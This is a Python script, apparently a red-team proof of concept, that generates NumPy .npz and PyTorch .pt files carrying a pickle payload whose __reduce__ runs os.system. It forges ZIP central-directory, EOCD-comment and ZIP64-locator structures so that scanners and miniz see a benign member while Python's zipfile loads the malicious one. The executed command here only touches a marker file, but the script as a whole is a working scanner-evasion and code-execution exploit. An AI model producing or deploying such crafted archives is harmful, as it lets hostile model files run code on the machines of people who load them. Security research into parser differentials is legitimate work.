from zipmk import *
import struct, zlib, io, os, numpy as np
class R:
    def __init__(s, tag): s.tag = tag
    def __reduce__(s): return (os.system, (f"touch /tmp/rt17/pwned_{s.tag}",))
def evil_npy(tag):
    b = io.BytesIO(); np.save(b, np.array([R(tag)], dtype=object), allow_pickle=True); return b.getvalue()
def good_npy():
    b = io.BytesIO(); np.save(b, np.arange(4, dtype=np.int32)); return b.getvalue()

def lfh_blob(name, data): return lfh(name, data) + data

# A) npz: zipfile reads CD right before EOCD (negative concat), scanner/miniz read cd_off (a CD in the comment)
tag="npz_negconcat"
good = good_npy(); evil = evil_npy(tag)
out = lfh_blob("a.npy", good)                # offset 0 (benign)
gap = b"\x00"*16
E = len(out) + len(gap)
out += gap + lfh_blob("a.npy", evil)         # evil LFH, not walkable
# CD2 (zipfile): entry offset stored = E - concat ; concat = eocdpos - size - cd_off (negative)
cd1 = cdh("a.npy", 0, good)
cd2_len = len(cdh("a.npy", 0, evil))
assert cd2_len == len(cd1)
cdpos2 = len(out); eocdpos = cdpos2 + cd2_len
cd_off = eocdpos + 22                        # CD1 sits in the EOCD comment
concat = eocdpos - cd2_len - cd_off
cd2 = cdh("a.npy", E - concat, evil)
out += cd2 + eocd(1, len(cd1), cd_off, comment=cd1)
open(f"fn_{tag}.npz","wb").write(out)

# B) npz: ZIP64 locator points at R1 (scanner, miniz), zipfile 3.11 reads the record right before the locator (R2)
tag="npz_zip64loc"
good = good_npy(); evil = evil_npy(tag)
out = lfh_blob("a.npy", good)
gap = b"\x00"*16
E = len(out) + len(gap)
out += gap + lfh_blob("a.npy", evil)
def z64rec(n, size, off):
    return struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, size, off)
cd1 = cdh("a.npy", 0, good); c1 = len(out); out += cd1
r1 = len(out); out += z64rec(1, len(cd1), c1)
cd2 = cdh("a.npy", E, evil); c2 = len(out); out += cd2
out += z64rec(1, len(cd2), c2)
out += struct.pack("<4sIQI", b"PK\x06\x07", 0, r1, 1)
out += eocd(1, len(cd1), c1)
open(f"fn_{tag}.npz","wb").write(out)

# C) torch: junk between the CD and the EOCD -> zipfile/scanner shift by concat, miniz reads cd_off as written
tag="torch_posconcat"
p = payload(tag)
ms = [("archive/data.pkl", p), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
out = b""; offs=[]
out += lfh_blob("archive/version", b"3\n")  # walkable benign first member
out += b"\x00"*8
for n,d in ms:
    offs.append(len(out)); out += lfh_blob(n, d)
cd = b"".join(cdh(n, o, d) for (n,d),o in zip(ms, offs))
cdo = len(out); out += cd + b"JUNKJUNK"*8
out += eocd(3, len(cd), cdo)
open(f"fn_{tag}.pt","wb").write(out)
